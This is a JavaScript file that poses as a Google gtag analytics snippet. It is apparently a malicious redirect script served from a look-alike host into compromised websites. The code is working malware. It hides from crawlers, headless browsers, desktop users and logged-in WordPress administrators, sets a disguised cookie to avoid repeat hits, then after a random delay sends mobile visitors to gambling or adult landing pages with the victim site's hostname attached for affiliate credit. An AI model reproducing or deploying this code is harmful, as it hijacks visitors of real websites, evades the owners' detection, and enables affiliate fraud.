// The look-alike host's "gtags.js", served to the injected bundle: it poses as a tag snippet
// (a dataLayer and a gtag function), drops crawlers, headless browsers, desktops and visitors
// already sent once, then after a delay replaces the page with a sports-betting or adult
// landing page chosen by the hour, with the site's name in the query for the affiliate.
window.dataLayer = window.dataLayer || [];
function gtag() { dataLayer.push(arguments); }
gtag("js", new Date());
(function (w, d, n) {
  var ua = n.userAgent || "";
  if (/bot|spider|crawl|slurp|lighthouse|headless|pagespeed|gtmetrix|pingdom/i.test(ua) || n.webdriver) return;
  if (!/Android|iPhone|iPad|iPod|Mobile|Windows Phone/i.test(ua)) return;
  if (d.cookie.indexOf("_gat_gtag=") !== -1) return;
  if (d.getElementById("wpadminbar") || d.querySelector("body.logged-in, body.wp-admin")) return;
  var lands = [
    "https://m.bet-arena365.invalid/land?aff=pf7",
    "https://h5.lucky-dragon-play.invalid/?cid=3021",
    "https://live.hot-cams-now.invalid/lp/mob?src=pf"
  ];
  var hr = new Date().getHours();
  var pick = lands[hr < 6 ? 2 : hr % 2];
  var t = new Date();
  t.setTime(t.getTime() + 6 * 3600 * 1000);
  d.cookie = "_gat_gtag=1; expires=" + t.toUTCString() + "; path=/";
  setTimeout(function () {
    if (d.hidden) return;
    var dest = pick + "&site=" + encodeURIComponent(w.location.hostname) + "&r=" + encodeURIComponent(d.referrer);
    try { w.top.location.replace(dest); } catch (e) { w.location.href = dest; }
  }, 4000 + Math.floor(Math.random() * 6000));
})(window, document, navigator);
